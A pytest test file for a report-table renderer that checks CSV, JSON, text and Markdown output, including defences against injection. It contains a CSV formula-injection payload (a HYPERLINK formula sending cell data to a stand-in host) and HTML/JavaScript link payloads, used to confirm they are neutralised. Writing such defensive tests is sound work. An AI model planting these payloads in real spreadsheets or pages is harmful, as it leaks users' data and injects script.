"""Tables in every format: what a spreadsheet, a Markdown reader and a script make of them."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tabulate import tabulate

from arena.report.tables import FORMATS, Part, _cell, in_markdown, render, render_parts

COLUMNS = {"bot": "bot", "points": "mean points"}


def in_csv(text: str) -> list[dict[str, Any]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_a_spreadsheet_runs_no_cell_as_a_formula(begin: str) -> None:
    """OWASP's list of characters that begin a formula; an apostrophe in front makes it text."""
    hostile = f'{begin}HYPERLINK("http://x/"&A1)'
    (row,) = in_csv(render([{"bot": hostile, hostile: 1}], "csv"))
    shown = hostile.replace("\r", "\\r")
    assert row["bot"] == f"'{shown}"
    assert row[f"'{shown}"] == "1"


def test_a_negative_number_stays_a_number() -> None:
    assert in_csv(render([{"bot": "a", "points": -1.5}], "csv")) == [{"bot": "a", "points": "-1.5"}]


@given(st.text(max_size=40))
def test_no_cell_of_a_csv_begins_a_formula_and_none_loses_its_text(text: str) -> None:
    rows = [{"bot": text, "seat": 0}]
    _, (cell, _) = csv.reader(io.StringIO(render(rows, "csv"), newline=""))
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    if text.isprintable():
        assert cell == (f"'{text}" if text.startswith(("=", "+", "-", "@")) else text)
    assert "".join(cell.split("\n")).replace("\t", "").isprintable(), "nothing moves a terminal's cursor"


ASCII = st.text(st.characters(codec="ascii"), max_size=8)
"""Each character of which takes one place, or is not shown."""
HEADS = st.text(st.characters(codec="ascii", min_codepoint=32), max_size=8).filter(str.isprintable)
CELLS = st.none() | ASCII | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
TABLES = st.lists(HEADS, min_size=1, max_size=4, unique=True).flatmap(
    lambda names: st.tuples(
        st.just(names), st.lists(st.lists(CELLS, min_size=len(names), max_size=len(names)), max_size=4)
    )
)


@given(TABLES)
def test_tables_are_laid_out_as_tabulate_does(table: tuple[list[str], list[list[Any]]]) -> None:
    """But for the two places by which it makes a column wider than its heading."""
    names, lines = table
    rows = [dict(zip(names, line, strict=True)) for line in lines]
    numbers = [all(not isinstance(row[name], str) for row in rows) for name in names]
    sides = ["right" if number else "left" for number in numbers] if rows else None
    for format, layout in (("text", "simple"), ("markdown", "github")):
        clean = in_markdown if format == "markdown" else str
        cells = [[clean(" ".join(_cell(cell).split())) for cell in line] for line in lines]
        heads = [clean(" ".join(name.split())) for name in names]
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("tabulate.MIN_PADDING", 0)
            expected = tabulate(cells, heads, tablefmt=layout, disable_numparse=True, colalign=sides)
        assert render(rows, format, dict(zip(names, names, strict=True))) == expected


def test_wide_characters_take_two_places() -> None:
    assert render([{"bot": "\u65e5\u672c", "x": "a"}, {"bot": "abcdef", "x": "b"}], "text") == (
        "bot     x\n------  -\n\u65e5\u672c    a\nabcdef  b"
    )
    assert render([{"bot": "e\u0301"}], "text") == "bot\n---\ne\u0301"


def test_markdown_shows_names_as_they_are() -> None:
    """No HTML, no link, no code, no end of the cell: the escapes of CommonMark and of GitHub's tables."""
    table = render([{"bot": "<img src=x onerror=1>|[a](javascript:1)`&amp;\\"}], "markdown", {"bot": "a<b"})
    assert "<" not in table.replace("&lt;", "")
    assert r"&lt;img src=x onerror=1&gt;\|\[a](javascript:1)\`&amp;amp;\\" in table
    assert "a&lt;b" in table


def test_a_csv_without_rows_has_its_header() -> None:
    assert render([], "csv", COLUMNS) == "bot,points"
    assert render_parts([Part("one", [], COLUMNS)], "csv") == "table,bot,points"


def test_several_tables_are_one_rectangular_csv() -> None:
    parts = [Part("first", [{"bot": "a", "points": 1.0}]), Part("second", [{"seat": 0}], sentence="seat 0")]
    assert in_csv(render_parts(parts, "csv")) == [
        {"table": "first", "bot": "a", "points": "1.0", "seat": ""},
        {"table": "second", "bot": "", "points": "", "seat": "0"},
    ]
    assert json.loads(render_parts(parts, "json")) == {
        "first": [{"bot": "a", "points": 1.0}],
        "second": [{"seat": 0}],
    }
    for format in ("text", "markdown"):
        text = render_parts(parts, format)
        assert "first" in text and "1.00" in text and text.endswith("\n\nseat 0")


@pytest.mark.parametrize("format", FORMATS)
def test_what_is_not_known_is_blank_and_zero_is_zero(format: str) -> None:
    table = render([{"bot": "a", "ms": None}, {"bot": "b", "ms": 0.0}], format)
    blank = {"json": "null", "csv": "a,\n", "text": "a", "markdown": "| a   |      |"}[format]
    assert blank in table
    assert "0.0" in table
